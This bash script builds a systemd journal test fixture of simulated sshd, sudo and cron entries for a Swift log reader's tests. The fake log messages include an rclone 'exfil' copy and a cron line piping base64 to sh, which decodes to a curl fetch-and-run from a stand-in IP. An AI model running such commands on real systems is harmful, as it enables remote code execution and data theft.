#!/usr/bin/env bash
# Regenerates system.journal (a real systemd journal file with sshd-like entries) and
# system.journal.json (what `journalctl -o json --all` prints for it), the fixtures of
# Tests/BinaryLogsTests/JournalFileReaderTests.swift. Run by hand, as root, on Debian 12:
#
#   apt-get install systemd-journal-remote   # brings /lib/systemd/systemd-journal-remote
#   Tests/BinaryLogsTests/Fixtures/make-journal-fixture.sh
#
# How and why it is shaped so:
# - The entries are written in journal export format (https://systemd.io/JOURNAL_EXPORT_FORMATS/)
#   and converted by systemd-journal-remote, so the file is laid out by systemd's own writer
#   (keyed hashes, compact mode, zstd-compressed large fields as systemd 252 writes them).
# - journal-remote sizes the data hash table from the output filesystem (10 % of it, capped), so
#   the file is written in a private 2 MiB tmpfs (`unshare --mount`): its hash table is then the
#   minimum (32 KiB) instead of 3.7 MB.
# - journald preallocates the file (512 KiB here, most of it zeros after the last object). The
#   compaction step sets the header's arena_size to end at the last object and truncates the file
#   there; no object is touched. `journalctl --verify` must pass on the result (checked below).
# - Cases pinned: failed and accepted sshd logins; a MESSAGE that is not UTF-8 (journalctl prints it
#   as a byte array); a MESSAGE with a newline and a tab; a field repeated in one entry
#   (EVIDENCE_TAG); a MESSAGE over 512 bytes (stored compressed); entries of sudo and logind.
set -euo pipefail
here="$(cd "$(dirname "$0")" && pwd)"
remote=/lib/systemd/systemd-journal-remote
[ -x "$remote" ] || { echo "needs $remote (apt-get install systemd-journal-remote)" >&2; exit 1; }
work="$(mktemp -d)"
trap 'rm -rf "$work"' EXIT

python3 - "$work/entries.export" <<'PY'
import struct, sys
boot = "5d3a9f1c2b7e4c0d8e6f1a2b3c4d5e6f"
machine = "0f1e2d3c4b5a69788796a5b4c3d2e1f0"
def entry(usec, mono, fields):
    out = bytearray()
    out += f"__REALTIME_TIMESTAMP={usec}\n__MONOTONIC_TIMESTAMP={mono}\n_BOOT_ID={boot}\n".encode()
    for key, value in fields:
        data = value if isinstance(value, bytes) else value.encode()
        if b"\n" in data or any(b < 0x20 and b != 0x09 for b in data) or not is_utf8(data):
            out += key.encode() + b"\n" + struct.pack("<Q", len(data)) + data + b"\n"
        else:
            out += key.encode() + b"=" + data + b"\n"
    return bytes(out) + b"\n"
def is_utf8(data):
    try:
        data.decode("utf-8"); return True
    except UnicodeDecodeError:
        return False
def common(pid, comm, exe, unit, ident, facility="10", priority="6", uid="0"):
    return [("_MACHINE_ID", machine), ("_HOSTNAME", "web01"), ("_TRANSPORT", "syslog"),
            ("PRIORITY", priority), ("SYSLOG_FACILITY", facility), ("SYSLOG_IDENTIFIER", ident),
            ("SYSLOG_PID", str(pid)), ("_PID", str(pid)), ("_UID", uid), ("_GID", uid), ("_COMM", comm),
            ("_EXE", exe), ("_SYSTEMD_UNIT", unit), ("_SYSTEMD_SLICE", "system.slice"),
            ("_SYSTEMD_CGROUP", "/system.slice/" + unit)]
base = 1741343400  # 2025-03-07T10:30:00Z
sshd = lambda pid: common(pid, "sshd", "/usr/sbin/sshd", "ssh.service", "sshd")
entries = [
    (base + 58, 0, sshd(327010) + [("MESSAGE", "Invalid user admin from 198.51.100.23 port 40022")]),
    (base + 60, 250000, sshd(327010) + [("MESSAGE", "Failed password for invalid user admin from 198.51.100.23 port 40022 ssh2")]),
    (base + 67, 123456, sshd(327050) + [("MESSAGE", "Accepted password for svc-backup from 203.0.113.77 port 50022 ssh2")]),
    (base + 67, 130001, sshd(327050) + [("MESSAGE", "pam_unix(sshd:session): session opened for user svc-backup(uid=1001) by (uid=0)")]),
    (base + 67, 140002, common(512, "systemd-logind", "/lib/systemd/systemd-logind", "systemd-logind.service", "systemd-logind", facility="4")
        + [("MESSAGE", "New session 41 of user svc-backup.")]),
    (base + 100, 0, common(327101, "sudo", "/usr/bin/sudo", "session-41.scope", "sudo", uid="1001")
        + [("MESSAGE", "svc-backup : TTY=pts/2 ; PWD=/home/svc-backup ; USER=root ; COMMAND=/bin/bash")]),
    (base + 125, 0, sshd(327120) + [("MESSAGE", b"Invalid user \xff\xfeadm from 198.51.100.23 port 40100")]),
    (base + 126, 0, common(327140, "backup.sh", "/usr/bin/bash", "session-41.scope", "backup.sh", facility="1", uid="0")
        + [("MESSAGE", "rclone copy /srv/data remote:exfil\n\tTransferred: 1.2 GiB"),
           ("EVIDENCE_TAG", "first"), ("EVIDENCE_TAG", "second")]),
    (base + 180, 0, common(327160, "cron", "/usr/sbin/cron", "cron.service", "CRON", facility="9")
        + [("MESSAGE", "(root) CMD (echo " + ("c2xlZXAgMTA7Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjc3L3gK" * 16) + " | base64 -d | sh)")]),
    (base + 312, 0, sshd(327050) + [("MESSAGE", "Received disconnect from 203.0.113.77 port 50022:11: disconnected by user")]),
    (base + 312, 5000, sshd(327050) + [("MESSAGE", "Disconnected from user svc-backup 203.0.113.77 port 50022")]),
]
with open(sys.argv[1], "wb") as f:
    for index, (seconds, micro, fields) in enumerate(entries):
        usec = seconds * 1_000_000 + micro
        f.write(entry(usec, 1_000_000_000 + index * 1_000_003, fields))
PY

# A private mount namespace: the tmpfs disappears with the command.
mkdir "$work/fs"
unshare --mount bash -c "mount -t tmpfs -o size=2m tmpfs '$work/fs' && \
  '$remote' -o '$work/fs/system.journal' - < '$work/entries.export' && \
  cp '$work/fs/system.journal' '$work/system.journal'"

python3 - "$work/system.journal" <<'PY'
import struct, sys, os
path = sys.argv[1]
with open(path, "r+b") as f:
    data = f.read()
    assert data[:8] == b"LPKSHHRH"
    header_size, arena_size = struct.unpack_from("<QQ", data, 88)
    tail = struct.unpack_from("<Q", data, 136)[0]
    tail_size = struct.unpack_from("<Q", data, tail + 8)[0]
    end = (tail + tail_size + 7) // 8 * 8
    assert data[end:].strip(b"\0") == b"", "bytes after the last object"
    f.seek(96)
    f.write(struct.pack("<Q", end - header_size))
    f.truncate(end)
print("compacted to", end, "bytes")
PY

journalctl --verify --file="$work/system.journal"
cp "$work/system.journal" "$here/system.journal"
chmod 644 "$here/system.journal"
journalctl --file="$here/system.journal" -o json --all --no-pager > "$here/system.journal.json"
echo "wrote $here/system.journal ($(stat -c %s "$here/system.journal") bytes) and system.journal.json"
